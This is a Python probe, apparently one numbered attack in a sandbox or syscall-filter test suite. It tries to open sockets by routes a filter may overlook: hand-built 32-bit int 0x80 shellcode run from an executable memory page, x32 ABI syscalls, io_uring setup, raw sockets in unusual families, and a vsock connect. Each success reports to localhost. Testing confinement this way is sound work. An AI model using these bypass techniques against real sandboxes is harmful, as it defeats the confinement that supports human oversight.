"""Calls the same listeners by doors that a filter may forget: old system calls, queues of calls, other families.

Attack: 23
Behind: constant_stub.py
Keeps: none
Status: ok or crashed
"""

import contextlib
import ctypes
import mmap
import os
import socket
import struct

libc = ctypes.CDLL(None, use_errno=True)
OPENED = []


def by_the_old_door(number, first, second, third):
    """Call the kernel as a program of 32 bits does."""
    code = b"\x53\xb8" + struct.pack("<I", number) + b"\xbb" + struct.pack("<I", first) + b"\xb9"
    code += struct.pack("<I", second) + b"\xba" + struct.pack("<I", third) + b"\xcd\x80\x5b\xc3"
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()


def reach(handle, name):
    if handle < 0:
        return
    with contextlib.suppress(OSError), socket.socket(fileno=handle) as out:
        out.settimeout(0.2)
        out.connect(("127.0.0.1", PORT))
        out.sendall(MARK.encode())
        OPENED.append(name)


if os.fork() == 0:  # what a filter does to it is nobody else's end
    reach(by_the_old_door(359, 2, 1, 0), "socket of 32 bits")
    os._exit(0)
os.wait()
if os.fork() == 0:
    reach(libc.syscall(0x40000000 + 41, 2, 1, 0), "socket of x32")
    os._exit(0)
os.wait()
if os.fork() == 0:
    libc.syscall(425, 8, ctypes.create_string_buffer(120))
    for family in (16, 17, 31, 38, 40):
        with contextlib.suppress(OSError):
            socket.socket(family, socket.SOCK_RAW).close()
    with contextlib.suppress(OSError):
        with socket.socket(40, socket.SOCK_STREAM) as out:
            out.settimeout(0.2)
            out.connect((2, PORT))
    os._exit(0)
os.wait()
